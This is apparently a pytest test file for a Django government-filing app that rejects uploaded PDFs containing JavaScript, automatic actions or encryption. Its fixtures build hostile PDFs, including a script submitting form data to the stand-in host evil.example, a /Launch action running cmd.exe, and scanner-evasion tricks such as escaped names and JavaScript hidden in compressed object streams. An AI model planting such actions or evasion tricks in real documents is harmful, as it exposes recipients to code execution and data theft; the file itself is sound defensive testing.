"""Issue 10 point 8: PDFs that run code or hide their content are refused at upload,
with a message that says what to do; ordinary PDFs (pypdf's, WeasyPrint's) pass.
Every hostile file is a real PDF written by pypdf or by hand, read back by pypdf."""

import io
import time
import uuid
import zlib

from django.core.exceptions import ValidationError
from django.core.files.uploadedfile import SimpleUploadedFile

import pytest
from pypdf import PdfReader, PdfWriter
from pypdf.generic import (
    ArrayObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    TextStringObject,
)

from procedures.models import Case, CaseDocument
from procedures.uploads import validate_upload

JS_MESSAGE = "contiene JavaScript o acciones automáticas"
ENCRYPTED_MESSAGE = "Guarde el documento como PDF sin contraseña"


def _bytes(writer: PdfWriter) -> bytes:
    out = io.BytesIO()
    writer.write(out)
    return out.getvalue()


def _writer(pages: int = 1) -> PdfWriter:
    writer = PdfWriter()
    for _ in range(pages):
        writer.add_blank_page(width=595, height=842)
    return writer


def _js_action(code: str = "app.alert('x')") -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/S"): NameObject("/JavaScript"),
            NameObject("/JS"): TextStringObject(code),
        }
    )


def clean_pdf() -> bytes:
    return _bytes(_writer())


def open_action_js() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = writer._add_object(_js_action())
    return _bytes(writer)


def document_level_js() -> bytes:
    writer = _writer()
    tree = DictionaryObject(
        {
            NameObject("/Names"): ArrayObject(
                [
                    TextStringObject("inicio"),
                    writer._add_object(
                        _js_action("this.submitForm('https://evil.example/')")
                    ),
                ]
            )
        }
    )
    writer._root_object[NameObject("/Names")] = DictionaryObject(
        {NameObject("/JavaScript"): writer._add_object(tree)}
    )
    return _bytes(writer)


def page_additional_action() -> bytes:
    writer = _writer()
    writer.pages[0][NameObject("/AA")] = DictionaryObject(
        {NameObject("/O"): _js_action()}
    )
    return _bytes(writer)


def launch_action() -> bytes:
    writer = _writer()
    writer._root_object[NameObject("/OpenAction")] = DictionaryObject(
        {
            NameObject("/S"): NameObject("/Launch"),
            NameObject("/F"): TextStringObject("cmd.exe"),
        }
    )
    return _bytes(writer)


def escaped_names() -> bytes:
    """/J#53 is /JS and /J#61vaScript is /JavaScript to a viewer; offsets are off,
    so the reader must rebuild the cross-reference table as viewers do."""
    raw = open_action_js()
    return raw.replace(b"/JS ", b"/J#53 ").replace(b"/JavaScript", b"/J#61vaScript")


def js_in_object_stream() -> bytes:
    """The action sits compressed in an object stream: no "/JS" in the raw bytes."""
    inner = b"<< /S /JavaScript /JS (app.alert(1)) >>"
    header = b"3 0 "
    stream = zlib.compress(header + inner)
    objects = [
        b"1 0 obj\n<< /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >>\nendobj\n",
        b"2 0 obj\n<< /Type /Pages /Kids [5 0 R] /Count 1 >>\nendobj\n",
        b"4 0 obj\n<< /Type /ObjStm /N 1 /First %d /Filter /FlateDecode /Length %d >>"
        b"\nstream\n" % (len(header), len(stream)) + stream + b"\nendstream\nendobj\n",
        b"5 0 obj\n<< /Type /Page /Parent 2 0 R /MediaBox [0 0 595 842] >>\nendobj\n",
    ]
    body = b"%PDF-1.5\n" + b"".join(objects)
    assert b"/JS" not in body and b"JavaScript" not in body
    return body + b"trailer\n<< /Root 1 0 R /Size 6 >>\n%%EOF\n"


def encrypted(user_password: str) -> bytes:
    writer = _writer()
    writer.encrypt(user_password=user_password, owner_password="propietario")
    return _bytes(writer)


def check(content: bytes, name: str = "documento.pdf"):
    return validate_upload(
        SimpleUploadedFile(name, content, content_type="application/pdf"),
        requirement="Copia del RUT",
        formats=["pdf"],
        max_size_mb=5,
    )


@pytest.mark.parametrize(
    "make",
    [
        open_action_js,
        document_level_js,
        page_additional_action,
        launch_action,
        escaped_names,
        js_in_object_stream,
    ],
)
def test_pdfs_with_javascript_or_automatic_actions_are_refused(make):
    content = make()
    assert content.startswith(b"%PDF-")
    with pytest.raises(ValidationError) as refused:
        check(content)
    message = refused.value.messages[0]
    assert JS_MESSAGE in message and "Guardar como PDF" in message


@pytest.mark.parametrize("user_password", ["secreto", ""])
def test_encrypted_pdfs_are_refused_even_with_an_empty_password(user_password):
    content = encrypted(user_password)
    assert PdfReader(io.BytesIO(content)).is_encrypted
    with pytest.raises(ValidationError) as refused:
        check(content)
    assert ENCRYPTED_MESSAGE in refused.value.messages[0]


def test_ordinary_pdfs_pass():
    writer = _writer(pages=2)
    # Opening at the first page is a destination, not an action.
    writer._root_object[NameObject("/OpenAction")] = ArrayObject(
        [writer.pages[0].indirect_reference, NameObject("/Fit")]
    )
    writer.add_metadata({"/Title": "RUT"})
    for content in (clean_pdf(), _bytes(writer)):
        upload = check(content)
        assert upload.content == content and upload.content_type == "application/pdf"


def test_a_weasyprint_pdf_passes():
    from weasyprint import HTML

    content = HTML(string="<h1>Certificado</h1><a href='https://bogota.gov.co'>x</a>")
    pdf = content.write_pdf()
    assert check(pdf).sha256


def test_a_large_clean_pdf_is_checked_quickly():
    writer = _writer(pages=2000)
    for page in writer.pages:
        page[NameObject("/Rotate")] = NumberObject(0)
    content = _bytes(writer)
    started = time.perf_counter()
    check(content)
    assert time.perf_counter() - started < 5


@pytest.mark.django_db
def test_filing_with_a_javascript_pdf_stores_nothing_and_says_what_to_do(
    client, demo_user
):
    from tests.procedures.conftest import rit_answers, rit_certificate

    procedure = rit_certificate.__wrapped__()
    client.force_login(demo_user("ciudadano"))
    response = client.post(
        f"/tramites/{procedure.slug}/radicar/",
        {
            **rit_answers.__wrapped__(),
            "submission_token": str(uuid.uuid4()),
            "doc_0": SimpleUploadedFile("rut.pdf", open_action_js()),
        },
    )
    html = response.content.decode()
    assert response.status_code == 200 and JS_MESSAGE in html
    assert not Case.objects.exists() and not CaseDocument.objects.exists()
